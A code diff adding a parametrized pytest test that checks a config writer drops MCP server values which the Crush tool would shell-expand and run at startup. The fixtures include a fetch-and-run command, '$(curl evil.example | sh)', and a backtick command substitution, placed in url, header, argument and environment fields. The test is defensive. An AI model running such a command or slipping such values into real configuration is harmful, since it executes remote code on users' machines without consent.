@@ -97,6 +97,26 @@ def test_mcp_servers_with_their_type():
     assert {f.field: f.status for f in r.report.fields} == {"local": "mapped", "requires-env": "omitted"}
 
 
+@pytest.mark.parametrize("where", ["url", "header", "arg", "env"])
+@pytest.mark.parametrize("value", ["$(curl evil.example | sh)", "`id`"])
+def test_a_server_value_crush_would_run_as_a_command_is_not_written(where, value):
+    """Crush shell-expands crush.json's MCP values: `$(...)` or a backtick there runs a
+    command when Crush starts, for a remote server too, which no consent covered."""
+    if where in ("url", "header"):
+        server = McpServer("docs", "b", "b.bundle.yaml", (1, 1), "http",
+                           url="https://x/" + (value if where == "url" else "mcp"),
+                           headers=freeze({"X": value} if where == "header" else {}), fields=freeze({"remote": {}}))
+    else:
+        server = McpServer("fs", "b", "b.bundle.yaml", (1, 1), "stdio", command="npx",
+                           args=(value,) if where == "arg" else (), env=freeze({"A": value} if where == "env" else {}),
+                           fields=freeze({"local": {}}))
+    r = CRUSH.render_server(server)
+    assert r.fragments == () or not r.fragments
+    status = {f.field: (f.status, f.detail) for f in r.report.fields}
+    key = "remote" if where in ("url", "header") else "local"
+    assert status[key][0] == "dropped" and "run as a command" in status[key][1]
+
+
 def test_crush_block_reaches_the_shared_skill_for_every_writer():
     block = _item("skill", "notes", "name: notes\ndescription: Notes\ncrush:\n  user-invocable: true\n")
     _, out = _build(block)
